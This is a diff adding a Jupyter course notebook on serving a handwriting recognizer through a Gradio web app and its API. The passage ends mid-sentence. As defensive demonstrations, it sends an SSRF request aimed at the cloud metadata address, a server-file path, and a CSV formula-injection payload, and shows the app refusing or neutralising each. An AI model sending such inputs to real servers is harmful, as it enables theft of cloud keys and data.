@@ -1,0 +1,904 @@
+# ---
+# jupyter:
+#   kernelspec:
+#     display_name: Python 3 (ipykernel)
+#     language: python
+#     name: python3
+# ---
+
+# %% [markdown]
+# # A web app and its API with Gradio
+#
+# **Time:** 75 minutes
+#
+# **You will learn**
+#
+# - how a Python function becomes a page that anybody can use, and what its users see when it fails;
+# - what a browser and a program send, and what base64 costs;
+# - how to call the API by hand: in one step, in two steps with events, with curl and with a client;
+# - what many users at once do to an app, and how it says that it is busy;
+# - what feedback is good for, and what must not happen to it;
+# - how to test a page, and how to let others in.
+
+# %% tags=["setup"]
+# The set-up cell: `lab notebooks build` fills it in.
+
+# %% [markdown]
+# ## A model that only you can use
+#
+# `ParagraphTextRecognizer` reads a page, for whoever has Python, this project and the model file.
+# Most people have none of the three. They have a browser. And a program in another language has
+# HTTP. So a web app is put in front of the model, and everybody who has a page takes the same way:
+
+# %%
+import os
+
+import gradio as gr
+from PIL import Image
+
+from lab_utils import figures
+from lab_utils.checks import gradio_app as checks
+from lab_utils.figures import gradio_app as draw
+from lab_utils.loading import load_recognizer
+from text_recognizer.errors import RecognizerError
+from text_recognizer.places import lab_folder
+
+# %%
+os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"  # else Gradio reports each start to its makers
+os.environ["GRADIO_TEMP_DIR"] = str(lab_folder() / "cache" / "gradio" / "uploads")
+recognizer = load_recognizer(quiet=True)
+
+# %%
+figures.show(
+    draw.way_of_a_page(),
+    "Figure 1. The ways of a page. Sections 1 to 6 go along them.",
+    "Three senders, a browser, a program and a Python client, have arrows to a box named Gradio. "
+    "An arrow leads on to a gate that bounds how many read and wait, and from there to a "
+    "predictor, which is the model in this process or a model service.",
+    width=820,
+)
+
+# %% [markdown]
+# ## 1. A function becomes a page
+#
+# [Gradio](https://www.gradio.app) makes a page from a function, if it is told what goes in and what
+# comes out. It makes the form, converts between what a browser sends and what Python wants, and
+# starts a server. `type="filepath"` says that the function wants the path of an image file.
+
+# %% tags=["timing"]
+PAGE = "data/pages/show_font_007.jpg"
+tiny = gr.Interface(
+    fn=recognizer.predict,
+    inputs=gr.Image(type="filepath", label="Page"),
+    outputs=gr.Textbox(label="Text"),
+    flagging_mode="never",
+)
+_ = tiny.launch(share=False, prevent_thread_lock=True, quiet=True, height=420)
+
+# %% [markdown]
+# That is a whole web app. Drop a picture of handwriting on it, your own or one from `data/pages`.
+# (The stored solutions show no live page; run the cell.) The server lives in a thread of this
+# notebook's process: it is gone when the kernel stops, and until then it listens on 127.0.0.1,
+# where only this machine can reach it.
+#
+# Now give it something wrong: press *Submit* without a page. It says "Error", and no more. Which is
+# right, as far as Gradio knows: an exception may hold paths, addresses or keys of the server, so
+# its text is not shown to strangers. Only the text of a `gr.Error` is. That leaves you to say which
+# errors are the user's business. Here the recognizer has said it already: a `RecognizerError` is a
+# sentence for the user, all others are bugs.
+
+# %% [markdown]
+# ### Exercise 1: The function behind the page (8 minutes)
+#
+# Write the function that a page calls: from an image file to the text and a one-line summary. The
+# summary says how many lines there are, and how many of them are doubtful, which are those with a
+# confidence below `doubtful`: `"3 lines, 1 doubtful"`, `"1 line, 0 doubtful"`, or `"no writing
+# found"`. Gradio calls with `None` if no image was chosen.
+#
+# Whatever the user can mend comes as a `gr.Error` with a sentence. Give it `print_exception=False`,
+# else each blurred photo leaves a traceback in the server's log. Bugs pass through as they are.
+
+# %% tags=["exercise"]
+from lab_utils.predictors import Predictor
+
+
+def read_page(path: str | None, predictor: Predictor, doubtful: float = 0.5) -> tuple[str, str]:
+    """The text of a page, and a summary for the user.
+
+    Args:
+        path: an image file; None if the user chose none.
+        predictor: its `read(path)` gives a reading with `text` and `lines`; each line has a
+            `confidence`. A reading takes a second, so ask once.
+        doubtful: the confidence from which on a line is not doubtful.
+
+    Raises:
+        gr.Error: no image was chosen, or the predictor raised a RecognizerError.
+    """
+    ### BEGIN SOLUTION
+    if path is None:
+        raise gr.Error("Choose an image first.", print_exception=False)
+    try:
+        reading = predictor.read(path)
+    except RecognizerError as error:
+        raise gr.Error(str(error), print_exception=False) from None
+    count = len(reading.lines)
+    if count == 0:
+        return "", "no writing found"
+    few = sum(line.confidence < doubtful for line in reading.lines)
+    return reading.text, f"{count} line{'s' if count > 1 else ''}, {few} doubtful"
+    ### END SOLUTION
+
+
+# %% tags=["check"]
+checks.read_page(read_page)
+
+# %% [markdown]
+# <details><summary>Hint</summary>
+#
+# Look at `path` first. Then put the one call of `predictor.read` between `try` and `except
+# RecognizerError as error`, and nothing else. `str(error)` is the sentence. In Python, `True`
+# counts as 1, so `sum` counts the lines for which a comparison holds.
+#
+# </details>
+
+# %%
+for doubtful in (0.5, 0.9):
+    text, summary = read_page(PAGE, recognizer, doubtful)
+    print(f"doubtful below {doubtful}: {summary}")
+print(text)
+
+# %% [markdown]
+# The last line should say *foolishness*, so the doubt was justified. Where to draw the line is a
+# question of what doubt costs: the app takes 0.5, as few lines as possible.
+#
+# The page calls its function with the inputs of the form, and knows nothing of a predictor.
+# `functools.partial` fills that argument in before. Press *Submit* without a page once more: now it
+# says what to do.
+
+# %% tags=["timing"]
+from functools import partial
+
+tiny.close(verbose=False)
+tiny = gr.Interface(
+    fn=partial(read_page, predictor=recognizer),
+    inputs=gr.Image(type="filepath", label="Page"),
+    outputs=[gr.Textbox(label="Text"), gr.Textbox(label="Summary")],
+    flagging_mode="never",
+)
+_ = tiny.launch(share=False, prevent_thread_lock=True, quiet=True, height=420)
+
+# %% [markdown]
+# A **predictor** is whatever has `predict(image)` and `read(image)`, and the recognizer is one.
+# That is all the page asks for, and it will pay in section 6.
+
+# %% [markdown]
+# ## 2. What a picture looks like on its way
+#
+# A page is a form, and forms send text or files. The browser *uploads* the file first, byte by
+# byte, and then sends a small JSON message with the name that the server gave it. A program that
+# wants to do all this in one request must put the picture into the JSON, and JSON is text: it has
+# no bytes. **Base64** writes them as text. It takes three bytes, which are 24 bits, as four groups
+# of six, and has one character for each of the 64 values of a group.
+
+# %%
+figures.show(
+    draw.base64_of(b"Hi!"),
+    "Figure 2. Three bytes become four characters.",
+    "The bytes 72, 105 and 33 above their 24 bits; dashed lines part the bits into four groups of "
+    "six, which are the values 18, 6, 36 and 33 and the characters S, G, k and h.",
+    width=620,
+)
+
+# %%
+import base64
+from pathlib import Path
+
+rows = []
+for name in ("show_font_004.jpg", "show_font_007.jpg", "show_font_014.jpg"):
+    photo = Path("data/pages", name).read_bytes()
+    characters = len(base64.b64encode(photo))
+    rows.append([name, len(photo), characters, round(characters / len(photo), 3)])
+columns = ["page", "bytes", "characters in base64", "ratio"]
+figures.show_table(rows, columns, "Table 1. What base64 costs: a third more, whatever the picture.")
+
+# %% [markdown]
+# A third more to send, and both sides hold the text and the bytes in memory at once. For pages of
+# some 100 kB that does not matter; for films it would.
+#
+# The text alone does not say what it is. A **data URI** does: `data:`, the type of the data (its
+# *MIME type*), `;base64,`, and the text. File names lie about types, bytes do not: each format
+# starts with bytes of its own.
+#
+# | bytes | format | MIME type |
+# |---|---|---|
+# | start with `89 50 4E 47` (hexadecimal) | PNG | `image/png` |
+# | start with `FF D8 FF` | JPEG | `image/jpeg` |
+# | start with `GIF8` | GIF | `image/gif` |
+# | start with `RIFF`, and bytes 8 to 11 are `WEBP` | WebP | `image/webp` |
+
+# %% [markdown]
+# ### Exercise 2: The body of a request (7 minutes)
+#
+# Gradio's API takes a JSON object with the list `data`: one value for each input of the form. The
+# value of an image input is an object, and its `url` may be a data URI: `{"data": [{"url":
+# "data:image/png;base64,iVBOR..."}]}`. Return this object for an image's bytes, with the type that
+# the bytes themselves tell. Bytes of another kind are not worth sending: raise `RecognizerError`
+# with a sentence.
+
+# %% tags=["exercise"]
+import base64
+
+
+def predict_body(image: bytes) -> dict:
+    """The request's body, ready for `json.dumps`.
+
+    Raises:
+        RecognizerError: the bytes are no PNG, JPEG, GIF or WebP image.
+    """
+    ### BEGIN SOLUTION
+    starts = {b"\x89PNG": "png", b"\xff\xd8\xff": "jpeg", b"GIF8": "gif"}
+    kind = next((kind for start, kind in starts.items() if image.startswith(start)), None)
+    if image[:4] == b"RIFF" and image[8:12] == b"WEBP":
+        kind = "webp"
+    if kind is None:
+        raise RecognizerError("Only PNG, JPEG, GIF and WebP images are sent; convert this one.")
+    text = base64.b64encode(image).decode()
+    return {"data": [{"url": f"data:image/{kind};base64,{text}"}]}
+    ### END SOLUTION
+
+
+# %% tags=["check"]
+checks.predict_body(predict_body)
+
+# %% [markdown]
+# <details><summary>Hint</summary>
+#
+# `bytes` has `startswith`, and `b"\x89PNG"` are the four bytes of the table's first row. Of the
+# functions in `base64`, one makes plain base64 without line breaks; it gives bytes, and `.decode()`
+# makes them a `str`. A WAV sound also starts with `RIFF`.
+#
+# </details>
+
+# %%
+photo = Path(PAGE).read_bytes()
+body = predict_body(photo)
+print(body["data"][0]["url"][:60], "...")
+
+# %% [markdown]
+# ## 3. An API
+#
+# From here on you talk to the lab's own app. It is Gradio as well, with more around it: a canvas to
+# write on, the lines that were found, feedback, limits. `make_frontend` takes a predictor and gives
+# the app. Run the cell, and read a page.
+
+# %% tags=["timing"]
+from lab_utils.app import make_frontend
+
+FEEDBACK = lab_folder() / "notebooks" / "05" / "feedback"
+frontend = make_frontend(recognizer, flagging_dir=FEEDBACK)
+_, url, _ = frontend.launch(prevent_thread_lock=True, inline=True, height=1000)
+
+# %%
+figures.show(
+    Image.open("data/pictures/app_wide.png"),
+    "Figure 3. The app in a wide window, after a page was read.",
+    "At the left a page of handwriting in a form with a button; at the right its text, a line that "
+    "says how long it took, and the page with a numbered stroke through each line.",
+    width=820,
+)
+
+# %% [markdown]
+# Whatever the page does, it does by requests, and other programs can send them, too. The functions
+# that they may call have names, the **endpoints**, and the app describes them itself:
+
+# %%
+import json
+import urllib.request
+
+with urllib.request.urlopen(url + "gradio_api/info") as response:
+    endpoints = json.load(response)["named_endpoints"]
+rows = [
+    [name, one["parameters"][0]["python_type"]["type"], one["description"]]
+    for name, one in endpoints.items()
+]
+columns = ["endpoint", "takes", "description"]
+figures.show_table(rows, columns, "Table 2. What /gradio_api/info says of the app.")
+
+# %% [markdown]
+# These names are a promise. Renaming `/predict` breaks programs that you have never heard of, so
+# give each endpoint a name (`api_name`) before Gradio takes the name of some function.
+#
+# A call in one step is a POST to `/gradio_api/run/` and the name. The answer is a JSON object
+# again, with the list `data`: one value for each output. And if something is wrong? The **status**,
+# the number with which each HTTP answer starts, tells most of what comes back apart, and the body
+# tells the rest:
+#
+# | status | body | meaning |
+# |---|---|---|
+# | 200 | `{"data": ["the text"], ...}` | here it is |
+# | 422, 413, 500, 503 | `{"error": "a sentence"}` | this app says what is wrong |
+# | 500 | `{"error": null}` | a Gradio app failed, and has no word for it |
+# | 502, 504, any other | a page in HTML, or nothing | something between you and the app speaks |
+# | 200 | a page in HTML | a log-in page, a hotel's Wi-Fi, the wrong address |
+#
+# A client must never take one of the others for a text, and should not confront its user with a
+# traceback of a JSON parser.
+
+# %% [markdown]
+# ### Exercise 3: Call the API by hand (10 minutes)
+#
+# Post a body as JSON and return the text from the answer. If there is none, raise
+# `RecognizerError`: with the answer's own sentence if `error` holds one, else with a sentence of
+# yours that names the status. No server, no answer within `timeout` seconds, and an answer that is
+# none are `RecognizerError`s as well.
+
+# %% tags=["exercise"]
+import json
+import urllib.error
+import urllib.request
+
+
+def ask(url: str, body: dict, timeout: float = 30.0) -> str:
+    """The text that an endpoint answers with.
+
+    Args:
+        url: of the endpoint.
+        body: what is sent, as JSON; the header Content-Type says `application/json`.
+        timeout: s to wait for the server.
+
+    Raises:
+        RecognizerError: no text came back.
+    """
+    ### BEGIN SOLUTION
+    header = {"Content-Type": "application/json"}
+    request = urllib.request.Request(url, json.dumps(body).encode(), header)
+    try:
+        with urllib.request.urlopen(request, timeout=timeout) as response:
+            return json.load(response)["data"][0]
+    except urllib.error.HTTPError as error:
+        try:
+            sentence = json.load(error)["error"]
+        except (ValueError, LookupError, TypeError):
+            sentence = None
+        raise RecognizerError(sentence or f"The app answered with status {error.code}.") from None
+    except OSError:
+        raise RecognizerError("The app does not answer; check that it runs.") from None
+    except (ValueError, LookupError, TypeError):
+        raise RecognizerError("What answers is not the app; check the address.") from None
+    ### END SOLUTION
+
+
+# %% tags=["check"]
+checks.ask(ask)
+
+# %% [markdown]
+# <details><summary>Hint</summary>
+#
+# `urllib.request.Request(url, data, headers)` with `data` (bytes) is a POST; `urlopen` takes it and
+# a `timeout`. From status 400 on it raises `urllib.error.HTTPError`, which can be read like the
+# answer that it is, and has a `code`. `HTTPError` is an `OSError`, like all that goes wrong on the
+# way, so catch it first. `json.load` raises `ValueError`; what is missing in an answer shows as
+# `KeyError`, `IndexError` (both are `LookupError`s) or `TypeError`.
+#
+# </details>
+
+# %%
+RUN = "gradio_api/run/predict"
+print(ask(url + RUN, predict_body(photo)))
+
+# %% [markdown]
+# The same text as in exercise 1, and it went through a network stack. (Your first app may have read
+# a letter otherwise: Gradio's image input encodes a picture anew before the function gets it. The
+# lab's app hands the bytes on as they came.)
+#
+# Now the wrong things: a cut photo, nothing at all, an address, and a file of the server's.
+
+# %%
+wrong = {
+    "half a photo": predict_body(photo[: len(photo) // 2]),
+    "nothing": {"data": [None]},
+    "an address": {"data": [{"url": "http://169.254.169.254/latest/meta-data/"}]},
+    "a file of the server": {"data": [{"path": "/etc/hostname"}]},
+}
+
+# %%
+for name, sent in wrong.items():
+    try:
+        print(f"{name}: read as {ask(url + RUN, sent)!r}")
+    except RecognizerError as error:
+        print(f"{name}: {error}")
+
+# %% [markdown]
+# The last two are no accidents. A server that fetches any address fetches those that only *it* can
+# reach (the one above is where clouds keep a machine's keys), and a server that opens any path
+# hands out its files. Gradio's own image input fetches addresses; the lab's app refuses them before
+# Gradio sees them, as it refuses requests of more than 28 MB before they are decoded
+# ([`guard.py`](../lab_utils/app/guard.py), [`pictures.py`](../lab_utils/app/pictures.py)).
+#
+# Other clients do what you did. `curl` takes the body from a file:
+
+# %%
+Path(".lab/body.json").write_text(json.dumps(predict_body(photo)))
+# !curl -sS {url}{RUN} -H "Content-Type: application/json" -d @.lab/body.json > .lab/answer.json
+print(json.loads(Path(".lab/answer.json").read_text())["data"])
+
+# %% [markdown]
+# With the package `requests` it is this:
+#
+# ```python
+# import requests
+#
+# answer = requests.post(url + "gradio_api/run/predict", json=predict_body(photo), timeout=30)
+# answer.raise_for_status()
+# print(answer.json()["data"][0])
+# ```
+#
+# And where even a data URI is too much to ask, in a shell script or on a microcontroller, the
+# second endpoint takes bare base64, as a string:
+
+# %%
+bare = {"data": [base64.b64encode(photo).decode()]}
+print(ask(url + "gradio_api/run/predict_base64", bare).split("\n")[0], "...")
+
+# %% [markdown]
+# ## 4. Two steps and a stream
+#
+# One step has a weakness: the connection is silent while the page is read. A second is no problem.
+# A minute is: proxies cut silent connections, and nobody knows whether the app still works or has
+# died. So Gradio's page calls in two steps, and so can you. The first request leaves the page there
+# and gets an **event id**, at once. The second one listens.
+
+# %%
+figures.show(
+    draw.one_step_or_two(),
+    "Figure 4. The messages of a call in one step and in two steps.",
+    "Left: the client posts the page, the app reads, the text comes back. Right: the client posts "
+    "the page and gets an event id, then gets the events of this id: a heartbeat while the app "
+    "reads, and at the end complete with the text.",
+    width=820,
+)
+
+# %%
+CALL = url + "gradio_api/call/predict"
+
+
+def events(body: dict) -> list[bytes]:
+    """The lines that the app sends about a call in two steps."""
+    header = {"Content-Type": "application/json"}
+    request = urllib.request.Request(CALL, json.dumps(body).encode(), header)
+    with urllib.request.urlopen(request) as response:
+        event_id = json.load(response)["event_id"]
+    with urllib.request.urlopen(f"{CALL}/{event_id}") as stream:
+        return stream.readlines()
+
+
+# %%
+for line in events(predict_body(photo)) + events(wrong["half a photo"]):
+    print(line)
+
+# %% [markdown]
+# These are **server-sent events**, a plain text format of the web (WHATWG HTML, section 9.2). A
+# line `event:` names the kind, a line `data:` holds JSON, and an empty line ends the event. Four
+# kinds come:
+#
+# | event | data | meaning |
+# |---|---|---|
+# | `heartbeat` | `null` | still at it; every 15 s |
+# | `generating` | a list | an intermediate result (of functions that `yield`) |
+# | `complete` | a list | the result, and the end |
+# | `error` | `{"error": "a sentence"}`, `{"error": null}`, or `null` | the end, too |
+#
+# Mind what the status is: 200, also for the error. It was sent before anybody knew how it would
+# end.
+
+# %% [markdown]
+# ### Exercise 4: Follow the events (10 minutes)
+#
+# Follow a stream of lines and return the data of the event `complete`, as soon as that event is
+# whole: the connection may stay open. At the event `error` raise `RecognizerError` with its
+# sentence, or with one of yours. A stream that ends before it says how the call went is an error as
+# well: the app was stopped, or the network went away.
+
+# %% tags=["exercise"]
+import json
+from collections.abc import Iterable
+
+
+def final_data(stream: Iterable[bytes]) -> list:
+    """The data of the event `complete`.
+
+    Args:
+        stream: lines with their ends, which are `\\n` or `\\r\\n`, as a response gives them.
+
+    Raises:
+        RecognizerError: the call failed, or the stream ended too early.
+    """
+    ### BEGIN SOLUTION
+    event, data = "", ""
+    for line in stream:
+        name, _, value = line.decode().rstrip("\r\n").partition(": ")
+        if name == "event":
+            event = value
+        elif name == "data":
+            data = value
+        elif not name and event == "complete":
+            return json.loads(data)
+        elif not name and event == "error":
+            told = json.loads(data)
+            sentence = told.get("error") if isinstance(told, dict) else None
+            raise RecognizerError(sentence or "The app could not read this page.")
+    raise RecognizerError("The stream ended before the text came; ask once more.")
+    ### END SOLUTION
+
+
+# %% tags=["check"]
+checks.final_data(final_data)
+
+# %% [markdown]
+# <details><summary>Hint</summary>
+#
+# Keep two variables, the event's name and its data, and look line by line: `b"event: x"` sets the
+# first, `b"data: y"` the second, and at an empty line the event is whole: look at its name.
+# `str.partition(": ")` parts a line at the *first* colon alone; texts have colons, too.
+#
+# </details>
+
+# %%
+print(final_data(events(predict_body(photo)))[0].split("\n")[0], "...")
+try:
+    final_data(events(wrong["half a photo"]))
+except RecognizerError as error:
+    print(error)
+
+# %% [markdown]
+# In Python nobody writes this by hand twice. `gradio_client` uploads the file, calls in two steps,
+# follows the events and converts what comes back, for any Gradio app in the world:
+
+# %%
+from gradio_client import Client, handle_file
+
+client = Client(url, verbose=False, analytics_enabled=False)
+print(client.predict(handle_file(PAGE), api_name="/predict").split("\n")[0], "...")
+client.close()
+
+# %% [markdown]
+# Which to take? One step for short calls from anywhere, since it is a single request. Two steps if
+# it may take long. The client if it is Python anyway.
+
+# %% [markdown]
+# ## 5. Many at once
+#
+# A page takes some tenths of a second on two cores. If eight people come at once, the worst answer
+# is to serve them all at the same time: memory for eight pages, and each reading takes eight times
+# as long. Gradio has a **queue** for that: `concurrency_limit` says how many calls of a function
+# run at once (by default 1), and `queue(max_size=...)` how many may wait. But for whom? Here is a
+# function that takes as long as it is told, behind a plain Gradio app, and six programs that call
+# in one step:
+
+# %%
+import queue
+import threading
+from concurrent.futures import ThreadPoolExecutor, as_completed
+from itertools import islice
+from types import SimpleNamespace
+
+# %%
+QUIETLY = {"share": False, "prevent_thread_lock": True, "quiet": True, "inline": False}
+started, release = queue.Queue(), threading.Event()
+
+
+def held(image: object) -> str:
+    """Reads nothing, until it is told to go on."""
+    started.put(image)
+    release.wait(60)
+    return "read"
+
+
+# %%
+plain = gr.Interface(held, gr.Image(), "text", api_name="predict", flagging_mode="never")
+_, plain_url, _ = plain.queue(max_size=1, default_concurrency_limit=1).launch(**QUIETLY)
+with ThreadPoolExecutor(6) as users:
+    answers = [users.submit(ask, plain_url + RUN, predict_body(photo)) for _ in range(6)]
+    for _ in answers:
+        started.get(timeout=60)
+    print("6 calls, none has ended, and all have started")
+    release.set()
+
+# %% [markdown]
+# All six ran at once, in spite of a limit of one and a queue of one. The queue is on the way of
+# `/call` and of the page; **`/run` bypasses it**. One can close that way, with
+# `queue(api_open=False)`, and lose the simple call. The lab's app has a gate of its own behind both
+# ([`gate.py`](../lab_utils/app/gate.py)): so many are read at once, so many wait, first come, first
+# served, and the next one is told.
+
+# %%
+release.clear()
+small = make_frontend(SimpleNamespace(predict=held), readers=2, queue_size=2)
+_, small_url, _ = small.launch(**QUIETLY)
+with ThreadPoolExecutor(6) as users:
+    answers = [users.submit(ask, small_url + RUN, predict_body(photo)) for _ in range(6)]
+    for refused in islice(as_completed(answers), 2):
+        print(refused.exception())
+    release.set()
+print(sum(answer.exception() is None for answer in answers), "of 6 were read")
+
+# %% [markdown]
+# Two were read at once, two waited, two were refused in milliseconds, with status 503, which says
+# "later" to programs, and a header `Retry-After`, which says when. A refusal sounds unfriendly. The
+# other choice is a queue that grows without end: then all wait for longer than they are willing to,
+# and the app reads pages of people who have left.
+
+# %%
+print(ask(small_url + RUN, predict_body(photo)), "(and afterwards it works as before)")
+small.close()
+plain.close(verbose=False)
+
+# %% [markdown]
+# ## 6. Not everything is worth reading
+#
+# Someone points a camera at a desk and lets it send a picture every second. Most of them show an
+# empty desk. The recognizer reads nothing there, and is right, but each one costs as much as a
+# page; where a model service is paid by the request, it costs money. So look before you ask. But
+# careful: whoever refuses too eagerly refuses a faint pencil, and its owner will not know what to
+# do about it. To send a blank page on costs half a second. To refuse a page costs a user.
+
+# %% [markdown]
+# ### Exercise 5: Is there anything on it? (10 minutes)
+#
+# Say whether a page is blank. Photos of empty paper differ in their light (a shadow lies on some),
+# in the colour of the paper, and in grain, the noise of the camera. Photos of writing may be faint,
+# may have little of it, and chalk is *lighter* than the board. What writing has and empty paper has
+# not: some pixels differ from what is right around them by far more than the grain does.
+
+
+# %% tags=["exercise"]
+import numpy as np
+from PIL import Image, ImageFilter
+
+
+def is_blank(page: Image.Image) -> bool:
+    """Whether there is no writing on a page, to be on the safe side: False in doubt.
+
+    Args:
+        page: mode "L", 0 black to 255 white; it is not changed.
+    """
+    ### BEGIN SOLUTION
+    levels = np.asarray(page, dtype=float)
+    around = np.asarray(page.filter(ImageFilter.BoxBlur(15)), dtype=float)
+    difference = abs(levels - around)
+    grain = np.median(difference)  # most of a page is paper
+    strokes = difference > max(8 * grain, 6)
+    return bool(strokes.mean() < 0.0005)
+    ### END SOLUTION
+
+
+# %% tags=["check"]
+checks.is_blank(is_blank)
+
+# %% [markdown]
+# <details><summary>Hint</summary>
+#
+# `page.filter(ImageFilter.BoxBlur(15))` gives each pixel the mean of its neighbourhood, with which
+# the light comes and goes. Look at how far each pixel is from that, in either direction. Most
+# pixels are paper, so the *median* of these distances tells the grain. A pixel is part of a stroke
+# if it is several times as far off, and at least some gray levels; a page is blank if next to no
+# pixels are.
+#
+# </details>
+
+# %%
+pages = draw.photos(Image.open("data/pages/show_font_008.jpg"))
+figures.show(
+    draw.judged(pages, [is_blank(page) for page in pages.values()]),
+    "Figure 5. A page and its empty back in several lights, and what is_blank says of each.",
+    "Three photos with writing, clear, faint and half in a shadow, and two of empty paper, one of "
+    "them half in a shadow, each with its verdict.",
+    width=780,
+)
+
+# %% [markdown]
+# Where does this check belong? Not into the page, since the API would not have it, nor into the
+# recognizer, which has another job. It fits *between*: a predictor that asks another one.
+
+# %%
+from text_recognizer.images import ImageSource, load_image
+from text_recognizer.paragraph_text_recognizer import PageReading
+
+
+def refuse_blank(image: ImageSource) -> None:
+    """Raises RecognizerError for a page on which there is nothing."""
+    if is_blank(load_image(image).page):
+        raise RecognizerError("There is nothing on this page; go closer, or use a darker pen.")
+
+
+# %%
+class NoBlankPages:
+    """A predictor that asks another one only if there may be something to read."""
+
+    def __init__(self, inner: Predictor) -> None:
+        self.inner = inner
+
+    def predict(self, image: ImageSource) -> str:
+        return refuse_blank(image) or self.inner.predict(image)
+
+    def read(self, image: ImageSource) -> PageReading:
+        return refuse_blank(image) or self.inner.read(image)
+
+
+# %%
+import io
+
+careful = make_frontend(NoBlankPages(recognizer))
+_, careful_url, _ = careful.launch(**QUIETLY)
+for name in ("back, shadow", "page, faint"):
+    file = io.BytesIO()
+    pages[name].save(file, "PNG")
+    try:
+        print(f"{name}:", ask(careful_url + RUN, predict_body(file.getvalue())).split("\n")[0])
+    except RecognizerError as error:
+        print(f"{name}:", error)
+
+# %% [markdown]
+# In this way everything can be put between page and model that both need not know of: a cache, a
+# count, a second model for comparison. And the model itself can move out. `RemotePredictor(url)`
+# has the same two methods and sends the page to a model service, on another machine, with a GPU
+# perhaps. It retries where that helps, and if nobody is there, it says so:
+
+# %%
+from lab_utils.predictors import RemotePredictor
+
+far = RemotePredictor("http://127.0.0.1:9", retries=1)
+try:
+    far.predict(PAGE)
+except RecognizerError as error:
+    print(error)
+
+# %% [markdown]
+# `make_frontend(far)` is the app in front of it; from the command line, `lab app --model-url
+# ADDRESS`. App and model then start, fail and grow one by one, which is what notebook 06 is about.
+
+# %% [markdown]
+# ## 7. "Wrong? Tell us"
+#
+# The readings that matter most are those that went wrong for real people, and nobody knows them but
+# these people. So the page has a form for it: *Wrong? Tell us*. Gradio brings one along, which it
+# calls **flagging** (`flagging_mode="manual"`), and writes a line into a CSV file. But flagged
+# through the API, the whole data URI lands in the CSV, and a table with cells of a megabyte opens
+# nowhere. So the lab's app keeps its own ([`feedback.py`](../lab_utils/app/feedback.py)): the image
+# is a file, named by its SHA-256, and the table holds this name. And mind that what people type
+# comes back in somebody's spreadsheet, where a cell that starts with `=` is a formula.
+
+# %%
+import csv
+import shutil
+
+from lab_utils.app.feedback import FeedbackFolder
+
+DEMO = FEEDBACK.with_name("demo")  # what you sent through the page stays where it is
+shutil.rmtree(DEMO, ignore_errors=True)
+feedback = FeedbackFolder(DEMO)
+
+# %%
+reading = recognizer.predict(PAGE)
+right = "was the age of\nwisdom, it\nwas the age of\nfoolishness,"
+feedback.add(photo, reading, corrected=right)
+feedback.add(photo, reading, corrected='=HYPERLINK("http://example.com/?" & A1, "a prize")')
+with feedback.table.open(newline="") as file:
+    rows = [[row[1][:8], *row[2:]] for row in csv.reader(file)]
+figures.show_table(
+    rows[1:], rows[0], "Table 3. What the file holds; without times, and with short names."
+)
+print("images:", len(list((DEMO / "images").iterdir())))
+
+# %% [markdown]
+# Two rows, and one image, since equal bytes have equal names. The formula has got an apostrophe,
+# and is a text.
+#
+# What is it good for?
+#
+# - **Finding** kinds of pages that fail: sort by what is wrong before you collect more of it.
+# - **Evaluating**: page and corrected text are a label. But pages that were flagged are no sample
+#   of all pages: an error rate on them says nothing about the others.
+# - **Training**, later, after somebody looked: people correct carelessly, and some in jest.
+#
+# What must not happen to it? Handwriting is personal. It shows who wrote, and often to whom. Say
+# beside the button what is kept and why; keep nothing that was not sent for this purpose; bound it
+# (this folder takes 500 MiB), date it, and delete it. Anybody can fill a public form, and so
+# nothing of it is trusted: not as a formula, not as a file name, not as a label.
+
+# %% [markdown]
+# ## 8. Does it work?
+#
+# A page is a program, and it is tested like one, from the outside. The smallest test starts it,
+# asks for the page, and wants to see 200. It finds more than one would think: a missing package, a
+# wrong argument, a port that is taken, a model that does not load.
+
+# %%
+with urllib.request.urlopen(url) as response:
+    print(response.status, response.headers.get_content_type())
+
+# %% [markdown]
+# But a page that comes may still show nothing. What a user sees comes from JavaScript, and only a
+# browser runs it. **Playwright** drives one without a window: it finds elements by what people see
+# or by an id, and waits until they are there. This is such a test; the lab's are in
+# [`test_app_browser.py`](../tests/test_app_browser.py).
+#
+# ```python
+# from playwright.sync_api import expect, sync_playwright
+#
+# with sync_playwright() as playwright:
+#     browser = playwright.chromium.launch()
+#     page = browser.new_page()
+#     page.goto(url)
+#     page.locator("#image input[type=file]").set_input_files("data/pages/show_font_007.jpg")
+#     page.get_by_role("button", name="Read the picture").click()
+#     expect(page.locator("#text")).to_contain_text("wisdom, it", timeout=20_000)
+#     page.screenshot(path="app.png")
+#     browser.close()
+# ```
+#
+# Three layers, then, and each finds what the one below cannot: the function (exercise 1, fast, all
+# cases), the API (a few requests, as in section 3), the page (one or two ways through it). Whoever
+# tests all cases in a browser waits for minutes and mends tests for days.
+
+# %% [markdown]
+# ## 9. Let others in
+#
+# So far nobody but you can reach the app. From a terminal it is the same one; the last line also
+# offers reading as a tool to programs with a language model, by the Model Context Protocol:
+#
+# ```sh
+# lab app
+# lab app --port 8080 --auth anna:long-password --queue-size 8
+# lab app --mcp
+# ```
+#
+# - **To try it**, do nothing: `server_name` is 127.0.0.1, and only this machine can reach it.
+# - **To show it for an hour**, launch with `share=True`: Gradio gives it a public address for a
+#   week at most, through a server of theirs. Everybody who has the address can use the app.
+# - **To show it on Colab**, launch with `share=False` and see it in the notebook. Without a word
+#   from you, Gradio makes `share` true on Colab; the lab's app does not.
+# - **To let a few people use it**, add `auth=("anna", "a long password")`, and HTTPS in front of
+#   it: else the password travels in clear text. One password for all cannot be taken from one.
+# - **To let many use it**, put the model into a service of its own (notebook 06) and the app on a
+#   real host.
+#
+# Whatever you choose: whoever can reach the page can also reach the API, with all that you tried in
+# section 3. Limits belong into the app, not into the page's JavaScript.
+#
+# At the end, give back what was taken. A kernel that stops does it by itself.
+
+# %%
+for app in (tiny, frontend, careful):
+    app.close(verbose=False)
+try:
+    ask(url + RUN, predict_body(photo))
+except RecognizerError as error:
+    print(error)
+
+# %% [markdown]
+# ## Summary
+#
+# - A web app is a function with a form in front; its errors are told only if they are meant for
+#   users.
+# - Pictures travel as uploaded files or as base64 in JSON, which is a third larger.
+# - A client looks at the status, the error's sentence and the answer's form, and has a time limit.
+# - One step is one request; two steps bring events, and an end only with `complete` or `error`.
+# - A limit must lie behind every way in. Full is said at once, with 503, and passes.
+# - A predictor is two methods, so checks go in between and the model can move out.
+# - Feedback is worth as much as the care with it: images in files, no formulas, and nobody's
+#   handwriting kept without a purpose.
+
+# %% [markdown]
+# ## What to try next
+#
+# - Open the app on your phone: which address must `lab app` listen on, what does 127.0.0.1 mean on
+#   the phone, and who else is in your network?
+# - Write a predictor that remembers the text of pages it has seen (by their SHA-256), and put it
